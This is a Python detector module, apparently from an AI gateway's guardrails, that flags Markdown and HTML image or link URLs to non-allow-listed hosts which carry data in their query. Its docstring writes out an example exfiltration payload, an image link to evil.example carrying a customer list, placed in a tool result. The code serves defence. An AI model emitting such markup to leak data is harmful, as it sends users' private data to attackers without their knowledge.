"""Exfiltration through markup: images and links whose URLs carry data to hosts not on an allow list.

A client that renders Markdown or HTML fetches an image without asking anyone,
so `![](https://evil.example/p.png?d=<the customer list>)` in a tool result
sends data out the moment it is shown. Links are the same one click later.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from fnmatch import fnmatchcase
from urllib.parse import urlsplit

from gateway.guardrails.detectors.base import Hit, Where

_MARKUP_URLS = re.compile(
    r"!?\[[^\]]*\]\(\s*<?(?P<md>[a-z][a-z0-9+.-]*://[^\s)>]+)>?[^)]*\)"
    r"|<(?:img|a|iframe|script|link|source)\b[^>]*?\b(?:src|href)\s*=\s*[\"']?(?P<html>[a-z][a-z0-9+.-]*://[^\s\"'>]+)"
    r"|^\s*\[[^\]]+\]:\s*(?P<ref>[a-z][a-z0-9+.-]*://\S+)",
    re.IGNORECASE | re.MULTILINE,
)


class Markup:
    name = "markup"
    kinds = None

    def scan(self, text: str, where: Where) -> Sequence[Hit]:
        if "://" not in text:
            return ()
        settings = getattr(where.settings, "markup", None)
        allowed: tuple[str, ...] = getattr(settings, "allow_hosts", ())
        hits = []
        for match in _MARKUP_URLS.finditer(text):
            group = "md" if match.group("md") else "html" if match.group("html") else "ref"
            url = match.group(group)
            try:
                parts = urlsplit(url)
            except ValueError:
                continue
            host = (parts.hostname or "").lower()
            if any(fnmatchcase(host, pattern.lower()) for pattern in allowed):
                continue
            if parts.query or parts.fragment or len(parts.path) > 80:
                start, end = match.span(group)
                hits.append(
                    Hit(
                        "markup.exfiltration",
                        f"a markup URL to {host} carries data in its query",
                        start,
                        end,
                        "<URL REMOVED>",
                    )
                )
        return hits
